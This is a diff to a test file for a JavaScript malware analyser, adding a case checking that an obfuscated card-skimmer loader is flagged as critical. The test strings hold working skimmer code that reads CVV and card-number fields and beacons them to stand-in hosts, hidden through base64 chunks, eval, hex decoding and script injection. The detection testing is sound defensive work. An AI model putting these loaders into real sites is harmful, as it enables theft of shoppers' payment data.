@@ -145,6 +145,14 @@ describe('an accumulator compiled by Function (a template engine)', () => {
 });
 
 describe("code a helper's callers hand it", () => {
+  test('a stage decoded inside the helper from what a caller passes on (404-page loader with a built-in fallback) is analysed as a child', () => {
+    const stage = "var v=document.getElementById('cc_cvv').value;new Image().src='https://cdn-st4.example/p?d='+btoa(v);";
+    const code = `(function () { var FALLBACK = ['${Buffer.from(stage).toString('base64').slice(0, 40)}', '${Buffer.from(stage).toString('base64').slice(40)}'].join(''); var started = false; function run(b) { try { var code = decodeURIComponent(escape(window.atob(b))); (0, eval)(code); } catch (e) {} } function go(b) { if (started) return; started = true; run(b); } fetch('/checkout/x' + Math.random() + '.html').then(function (r) { return r.text(); }).then(function (t) { go(t.split('<!--')[1] || FALLBACK); }).catch(function () { go(FALLBACK); }); })();`;
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('critical');
+    expect(skim?.childSha256).toBeTruthy();
+  });
   test('a hex stage passed through two helpers into a script element is analysed as a child', () => {
     const stage = "var v=document.querySelector('#stripe-card-number').value;new Image().src='https://203.0.113.7/c?'+btoa(v);";
     const code = `(function () { var CACHE = '${Buffer.from(stage).toString('hex')}'; function unhex(h) { var s = ''; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); return s; } function inject(code) { var s = document.createElement('script'); s.textContent = code; document.head.appendChild(s); } function runStage(code) { inject(code); } dc.onmessage = function (ev) { runStage(ev.data); }; setTimeout(function () { runStage(unhex(CACHE)); }, 8000); })();`;
